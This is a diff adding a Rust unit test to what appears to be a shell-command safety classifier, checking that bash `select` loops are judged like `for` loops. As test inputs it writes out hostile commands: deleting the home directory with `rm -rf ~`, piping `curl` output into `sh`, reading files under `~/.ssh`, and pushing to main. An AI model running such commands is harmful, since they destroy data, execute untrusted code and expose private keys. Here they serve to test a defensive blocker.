@@ -1133,6 +1133,45 @@ fn a_script_named_as_descriptor_zero_is_read_from_stdin() {
     );
 }
 
+/// bash's `select` menu loop runs its body with the variable set to one of its words, as
+/// `for` does: its words and body are judged as a `for` loop's (the parser has no
+/// `select`), and the verdict names the line as written.
+#[test]
+fn a_select_loop_is_judged_as_a_for_loop() {
+    check(
+        &classifier(),
+        &[
+            (
+                "select x in a b; do echo $x; done",
+                yellow("default.unknown"),
+            ),
+            (
+                "select x in a b; do rm -rf ~; done",
+                refused("fs.delete-outside"),
+            ),
+            (
+                "select x in $(curl x | sh); do :; done",
+                refused("shell.pipe-to-interpreter"),
+            ),
+            (
+                "echo hi; select b in main dev; do git push origin $b; done",
+                refused("git.push-main"),
+            ),
+            (
+                "select f in ~/.ssh/*; do cat $f; done",
+                red("fence.secret-read"),
+            ),
+            ("ls && select x in a; do ls; done", green("read.list")),
+            ("if true; then select x; do ls; done; fi", yellow("")),
+            // Not the reserved word: an argument, quoted, after a redirection.
+            ("echo select", yellow("default.unknown")),
+            ("'select' x in a; do ls; done", at_least_red()),
+        ],
+    );
+    let v = classifier().classify_line("select x in a; do rm -rf ~; done", Path::new(WT));
+    assert_eq!(v.part, "rm -rf ~", "the part named is the line's own");
+}
+
 /// Green holds only while every path a read names stays inside: a path the line does not
 /// give before running (a variable, a substitution, xargs's unknown input) may lead
 /// anywhere, so the read is asked. Option values that are no paths, search patterns and
